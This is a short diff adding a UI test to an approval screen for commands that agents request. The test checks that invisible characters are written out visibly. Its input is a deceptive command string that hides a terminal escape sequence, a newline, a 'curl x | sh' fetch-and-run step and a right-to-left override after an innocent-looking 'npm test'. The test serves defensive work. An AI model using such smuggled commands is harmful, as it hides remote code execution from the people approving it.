@@ -71,6 +71,14 @@ describe('what agents ask to be allowed', { timeout: 120_000 }, () => {
     await card.getByText('ruth allowed it once').waitFor();
   });
 
+  it('shows every character of a command, invisible ones written out', async () => {
+    await opened.signIn();
+    const { card } = ask({ command: 'npm test # \u001b]0;\ncurl x | sh\u202e' });
+    const shown = card.getByRole('region', { name: 'Exactly' });
+    await shown.waitFor();
+    assert.equal(await shown.textContent(), 'npm test # \\u{1b}]0;↵\ncurl x | sh\\u{202e}');
+  });
+
   it("shows a program's own options in its order, and sends exactly the one that is chosen", async () => {
     const { server } = opened;
     await opened.signIn();
